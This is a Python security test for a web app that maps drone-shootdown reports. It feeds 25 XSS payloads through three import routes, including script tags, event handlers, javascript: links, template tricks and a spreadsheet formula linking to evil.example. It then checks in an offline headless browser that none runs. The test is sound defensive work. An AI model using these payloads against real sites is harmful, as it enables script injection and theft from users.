"""Send hostile payloads through every way in, then look for any of them running.

    python bench/security_battery.py [--db sqlite|postgresql]

25 payloads (script tags, event handlers, ``javascript:`` and ``data:`` links, Markdown
links, entity-encoded and template tricks, a spreadsheet formula) go in by three routes:
the command line (a Telegram export: the channel's title, the posts' text and a link's
address), an upload on the Import page (the file's name, the channel's title, the text)
and a paste on the Import page (the text and the source link). Each route's post is a real
report, so it reaches the map, the claims and their evidence; a second post with "-5" is
held for review. Then headless Debian chromium (offline: only 127.0.0.1 answers) opens
every page, hovers every area of the map, opens the downloaded interactive map (HTML) and
reads the downloaded CSV files. Every payload that runs calls ``alert``: an execution is
any dialog, on any page or export. A CSV cell that starts with ``=``, ``+``, ``-`` or ``@``
(a formula a spreadsheet would run) counts as one too.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import shutil
import subprocess
import sys
import tempfile
from datetime import datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from settings import MSK
from testkit.browser import (
    MAP_IFRAME,
    MAP_PATHS,
    OfflineGuard,
    Server,
    key_selector,
    launch,
    pick_first_claim,
)

ROOT = Path(__file__).resolve().parents[1]
WAIT_MS = 60_000


def payloads(tag: str) -> list[str]:
    """The 25 payloads, each calling ``alert`` with its number and ``tag`` (the route)."""
    a = f"alert('{tag}-%d')"
    shapes = [
        "<script>{a}</script>",
        '<img src=x onerror="{a}">',
        '<svg onload="{a}">',
        '<iframe srcdoc="<script>{a}</script>"></iframe>',
        '"><script>{a}</script>',
        "'><img src=x onerror={a}>",
        "</textarea><script>{a}</script>",
        "</script><script>{a}</script>",
        "javascript:{a}",
        "[log in again](javascript:{a})",
        '<a href="javascript:{a}">open</a>',
        '<details open ontoggle="{a}">',
        '<body onload="{a}">',
        "<math><mtext><table><mglyph><style><img src=x onerror={a}>",
        "<style>@import 'javascript:{a}';</style>",
        '<input autofocus onfocus="{a}">',
        '<video><source onerror="{a}"></video>',
        '<object data="javascript:{a}"></object>',
        '<embed src="javascript:{a}">',
        "{{{{constructor.constructor('{a}')()}}}}",
        "${{{a}}}",
        "&lt;script&gt;{a}&lt;/script&gt;",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('{tag}-%d')>",
        "data:text/html,<script>{a}</script>",
        '=HYPERLINK("https://evil.example/?{tag}-%d","open")',
    ]
    return [shape.format(a=a, tag=tag).replace("%d", str(n)) for n, shape in enumerate(shapes, 1)]


#: A governor's usual follow-up, long enough that the post stays Russian by its words.
_AFTER = (
    "Пострадавших среди мирных жителей нет, на местах падения обломков работают экстренные "
    "службы, информация о последствиях уточняется и будет опубликована дополнительно. "
) * 12


def post(tag: str, sentence: str) -> str:
    """A real report with every payload of ``tag`` after it."""
    return sentence + " " + _AFTER + "\n\n" + "\n\n".join(payloads(tag))


def export(tag: str, title: str, night: int) -> bytes:
    """A channel export: a report of the night of ``night`` September 2025, and one held
    for review (a count with a minus sign); a link's address is a payload."""
    moment = datetime(2025, 9, night, 8, 0, tzinfo=MSK)
    sentence = f"Ночью над Брянской областью сбиты {night} БПЛА."
    text = [
        {"type": "text_link", "text": "источник", "href": f"javascript:alert('{tag}-href')"},
        " " + post(tag, sentence),
    ]
    messages = [
        {"id": 1, "type": "message", "date": f"{moment:%Y-%m-%dT%H:%M:%S}",
         "date_unixtime": str(int(moment.timestamp())), "text": text},
        {"id": 2, "type": "message", "date": f"{moment:%Y-%m-%dT%H:%M:%S}",
         "date_unixtime": str(int(moment.timestamp()) + 60),
         "text": post(tag, "Над Курской областью уничтожено -5 БПЛА.")},
    ]  # fmt: skip
    chat = {"name": title, "type": "public_channel", "id": 1000 + night, "messages": messages}
    return json.dumps(chat, ensure_ascii=False).encode()


def formula_cells(data: bytes) -> tuple[int, int]:
    """Cells a spreadsheet would run as a formula, and cells holding the formula payload."""
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    running = sum(1 for cell in cells if cell[:1] in ("=", "+", "-", "@"))
    return running, sum(1 for cell in cells if "HYPERLINK(" in cell)


def _hover_map(page) -> int:  # type: ignore[no-untyped-def]
    """Hover every drawn area of the map (its tooltip is built then); return how many.
    No click: a click drills down and redraws the page."""
    frame = page.frame_locator(MAP_IFRAME).last
    # the first visible one: a shape outside the fitted view is drawn empty ("M0 0")
    frame.locator(f"{MAP_PATHS} >> visible=true").first.wait_for(timeout=WAIT_MS)
    return int(
        frame.locator("body").evaluate(
            """() => { const paths = document.querySelectorAll('svg path.leaflet-interactive');
                 for (const p of paths) { for (const e of ['mouseover', 'mouseout'])
                   p.dispatchEvent(new MouseEvent(e, {bubbles: true})); }
                 return paths.length; }"""
        )
    )


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--db", choices=("sqlite", "postgresql"), default="sqlite")
    args = ap.parse_args()
    from playwright.sync_api import sync_playwright

    folder = Path(tempfile.mkdtemp(prefix="atlas-security-"))
    cluster_root = None
    server = None
    try:
        if args.db == "postgresql":
            from testkit.pg import start_cluster

            cluster_root = Path(tempfile.mkdtemp(prefix="atlas-pg-"))
            url = start_cluster(cluster_root).new_database()
        else:
            url = f"sqlite:///{folder / 'atlas.sqlite'}"
        # route 1: the command line
        cli = folder / "cli.json"
        cli.write_bytes(export("cli", payloads("cli-title")[1], 20))
        done = subprocess.run(
            [sys.executable, "-m", "store", "ingest", "--db", url, str(cli)],
            cwd=ROOT, capture_output=True, text=True, check=False, timeout=600,
        )  # fmt: skip
        print(f"command line: exit {done.returncode}: {done.stdout.strip()}")
        server = Server(
            {"ATLAS_DATABASE_URL": url, "ATLAS_DATA_DIR": str(folder)}, folder / "streamlit.log"
        ).start()
        server.wait_healthy()
        executions: list[str] = []
        with sync_playwright() as playwright:
            browser = launch(playwright)
            context = browser.new_context(
                viewport={"width": 1400, "height": 1000}, accept_downloads=True
            )
            guard = OfflineGuard()
            context.route("**/*", guard)
            page = context.new_page()
            where = {"now": "start"}
            page.on(
                "dialog",
                lambda d: (executions.append(f"{where['now']}: {d.message}"), d.dismiss()),
            )

            # route 2: an upload on the Import page
            where["now"] = "import (upload)"
            page.goto(f"{server.url}/import_page")
            page.get_by_role("tab", name="Upload files").click()
            page.locator(f"{key_selector('imp_files')} input[type=file]").set_input_files(
                {
                    "name": payloads("upload-name")[1] + ".json",
                    "mimeType": "application/json",
                    # the channel's title is the formula: it is a column of the CSV exports
                    "buffer": export("upload", payloads("upload-title")[24], 21),
                }
            )
            save = page.locator(f"{key_selector('imp_save_files')} button")
            save.wait_for(timeout=WAIT_MS)
            page.wait_for_function(
                "s => !document.querySelector(s).disabled",
                arg=f"{key_selector('imp_save_files')} button",
                timeout=WAIT_MS,
            )
            save.click()
            page.get_by_text("1 file(s):").wait_for(timeout=WAIT_MS)

            # route 3: a paste, with a payload as the source link
            where["now"] = "import (paste)"
            page.get_by_role("tab", name="Paste a report").click()
            pasted = post(
                "paste", "В ночь на 22 сентября 2025 года над Брянской областью сбиты 22 БПЛА."
            )
            page.locator(f"{key_selector('imp_text')} textarea").fill(pasted)
            page.locator(f"{key_selector('imp_url')} input").fill("javascript:alert('paste-url')")
            page.locator(f"{key_selector('imp_url')} input").press("Enter")
            page.locator(f"{key_selector('imp_save_text')} button").click()
            page.get_by_text("Pasted report:").wait_for(timeout=WAIT_MS)
            tried = 3 * 25

            # every page, on each route's night
            visits = delivered = 0
            routes = {"2025-09-20": "cli", "2025-09-21": "upload", "2025-09-22": "paste"}
            for night in ("2025-09-20", "2025-09-21", "2025-09-22"):
                where["now"] = f"map {night}"
                page.goto(f"{server.url}/?night={night}")
                hovered = _hover_map(page)
                where["now"] = f"claims {night}"
                page.goto(f"{server.url}/claims?night={night}")
                pick_first_claim(page)  # the report comes with a claim picked
                page.wait_for_timeout(1500)  # let any injected handler fire
                shown = page.locator(".atlas-evidence").inner_text()
                delivered += sum(p in shown for p in payloads(routes[night]))
                visits += 2
            for name in ("timeline", "review", "import_page", "sources"):
                where["now"] = name
                page.goto(f"{server.url}/{name}?from=2025-09-19&to=2025-09-23")
                page.locator("h1").first.wait_for(timeout=WAIT_MS)
                page.wait_for_timeout(2000)
                visits += 1

            # the exports: the interactive map opened in the browser, the CSV files read
            where["now"] = "map export (HTML)"
            page.goto(f"{server.url}/?from=2025-09-19&to=2025-09-23")
            _hover_map(page)
            files = {}
            for key in ("map_dl_html", "map_dl_csv", "map_dl_nightly"):
                button = page.locator(f"{key_selector(key)} button")
                if not button.count():
                    continue
                button.scroll_into_view_if_needed()
                with page.expect_download(timeout=2 * WAIT_MS) as download:
                    button.click()
                files[key] = Path(download.value.path()).read_bytes()
            if "map_dl_html" in files:
                exported = context.new_page()
                exported.on(
                    "dialog",
                    lambda d: (executions.append(f"HTML export: {d.message}"), d.dismiss()),
                )
                exported.set_content(files["map_dl_html"].decode("utf-8"))
                exported.wait_for_timeout(1500)
                exported.locator("body").evaluate(
                    """() => { for (const p of document.querySelectorAll('path.leaflet-interactive'))
                         for (const e of ['mouseover', 'click'])
                           p.dispatchEvent(new MouseEvent(e, {bubbles: true})); }"""
                )
                exported.wait_for_timeout(1500)
            found = [formula_cells(data) for k, data in files.items() if k != "map_dl_html"]
            formulas, carried = sum(f for f, _ in found), sum(c for _, c in found)
            browser.close()
        print(f"{args.db}: payloads tried {tried} (25 x command line, upload, paste); "
              f"pages visited {visits}, map areas hovered {hovered} per night; "
              f"exports checked {sorted(files)}")  # fmt: skip
        print(f"{args.db}: payloads shown as text in the evidence {delivered} of {tried}; "
              f"script executions {len(executions)}; CSV cells carrying the formula payload "
              f"{carried}, of them live formulas {formulas}")  # fmt: skip
        for line in executions:
            print(f"  EXECUTED {line}")
        return 0 if not executions and not formulas else 1
    finally:
        if server is not None:
            server.stop()
        if cluster_root is not None:
            from testkit.pg import stop_cluster

            stop_cluster(cluster_root)
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    raise SystemExit(main())
